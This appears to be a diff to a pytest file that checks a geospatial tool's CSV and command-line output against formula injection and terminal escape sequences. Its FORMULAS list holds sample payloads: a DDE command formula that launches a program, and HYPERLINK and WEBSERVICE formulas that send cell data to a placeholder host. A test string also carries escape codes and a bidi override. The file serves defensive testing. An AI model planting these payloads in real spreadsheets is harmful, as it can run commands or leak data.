@@ -21,7 +21,8 @@ import pytest
 from docx import Document
 from shapely.geometry import box
 
-from spatial import pipeline
+from spatial import cli, pipeline
+from spatial.errors import found
 from tests.flow.conftest import District, X, Y
 
 FORMULAS = ['=cmd|"/C calc"!A0', "@SUM(1+1)", "+1+1", "-2+3", "\t=5+6", '=HYPERLINK("http://canary.example/?"&A1,"x")', "＝3+4", '=WEBSERVICE("http://canary.example/")']
@@ -89,6 +90,20 @@ def test_csv_cells_begin_no_formula(folder: Path, name: str) -> None:
     assert risky == []
 
 
+def test_a_comparison_on_the_screen_is_guarded_as_its_file_is(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(pipeline, "compare", lambda *runs: pd.DataFrame({"zone": ["=1+1"], "difference": [-2.5]}))
+    assert cli.main(["compare", "a", "b"]) == 0
+    assert capsys.readouterr().out.splitlines() == ["zone,difference", "'=1+1,-2.5"]
+
+
+def test_a_terminal_obeys_nothing_that_data_say(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
+    hostile = "\x1b]0;owned\x07\x1b[2J甲\x9b31m\u202egpj"
+    line = found("schema.unknown_column", path=hostile, field=hostile, value_seen=hostile, columns=hostile).line()
+    assert cli.main(["map", str(tmp_path / hostile)]) == 2
+    for text in (line, capsys.readouterr().err):
+        assert "甲" in text and "\\u001b[2J" in text and not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", text.replace("\n", ""))
+
+
 @pytest.mark.parametrize("text", TEXTS)
 def test_a_table_of_texts_keeps_them_behind_an_apostrophe(text: str, tmp_path: Path) -> None:
     path = pipeline.write_table(pd.DataFrame({text: [text]}), tmp_path / "t.csv")
@@ -153,3 +168,27 @@ def test_libreoffice_shows_the_text_and_computes_nothing(folder: Path, tmp_path:
     said = "".join(path.read_text(encoding="utf-8", errors="replace") for path in (tmp_path / "out").iterdir())
     plain = " ".join(said.replace('""', '"').split())
     assert [text for text in STRIPPED if " ".join(text.split()) not in plain] == []
+
+
+EVALUATE = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"  # as a user who lets LibreOffice take cells for formulas
+
+
+@pytest.mark.verify
+@pytest.mark.skipif(not shutil.which("soffice"), reason="no LibreOffice on this machine")
+def test_libreoffice_takes_no_cell_of_a_csv_for_a_formula(folder: Path, tmp_path: Path) -> None:
+    names = ["scorecard.csv", "findings.csv", "geometry.csv", "rows.csv", "matches.csv"]
+    for name in names:
+        shutil.copy(folder / name, tmp_path / name)
+    pipeline.write_table(pd.DataFrame({"text": TEXTS}), tmp_path / "texts.csv")
+    (tmp_path / "control.csv").write_text("a\n=1+1\n", encoding="utf-8")  # not guarded: the program does take it for one
+    subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path / 'office'}", "--headless", f"--infilter={EVALUATE}", "--convert-to", "xlsx", "--outdir", str(tmp_path / "out"),
+                    *(str(tmp_path / name) for name in (*names, "texts.csv", "control.csv"))], check=True, capture_output=True, timeout=300)
+
+    def formulas(name: str) -> list[str]:
+        book = openpyxl.load_workbook((tmp_path / "out" / name).with_suffix(".xlsx"))
+        return [str(cell.value) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+
+    assert formulas("control.csv") == ["=1+1"]
+    assert {name: formulas(name) for name in (*names, "texts.csv")} == dict.fromkeys((*names, "texts.csv"), [])
+    shown = {str(row[0].value).lstrip("'") for row in openpyxl.load_workbook(tmp_path / "out" / "texts.xlsx").active.iter_rows(min_row=2)}
+    assert {text.strip() for text in TEXTS} <= {text.strip() for text in shown}
